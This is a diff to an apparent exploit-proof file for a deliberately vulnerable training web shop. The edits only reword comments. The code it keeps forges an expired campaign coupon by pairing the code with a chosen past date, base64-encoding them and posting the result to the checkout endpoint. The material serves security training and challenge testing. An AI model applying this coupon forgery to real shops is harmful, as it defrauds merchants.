@@ -7,7 +7,7 @@ const DAY = '1551999600000'
 
 const encode = (text: string) => Buffer.from(text).toString('base64')
 
-/** Fills a basket, and gives its id with all that an order takes. */
+/** Puts an item into the basket and returns the basket's id with everything that an order needs. */
 async function fillBasket(attacker: Attacker) {
   const { basketId } = await attacker.becomeCustomer()
   const orderDetails = await addOrderDetails(attacker)
@@ -15,7 +15,7 @@ async function fillBasket(attacker: Attacker) {
   return { basketId, orderDetails }
 }
 
-/** Orders with something as the coupon of a campaign. */
+/** Orders with `couponData` of a campaign. */
 const orderWith =
   (couponData: unknown): Attack =>
   async (attacker) => {
@@ -26,7 +26,7 @@ const orderWith =
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     const { basketId, orderDetails } = await fillBasket(attacker)
-    // The code from the scripts of the shop is refused: its day is over. So say which day it is.
+    // The campaign code in the web client's scripts is refused because its day is over. The order claims that day as its date.
     await attacker.put(`/rest/basket/${basketId}/coupon/WMNSDY2019`)
     const couponData = encode(`WMNSDY2019-${DAY}`)
     await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData, orderDetails })
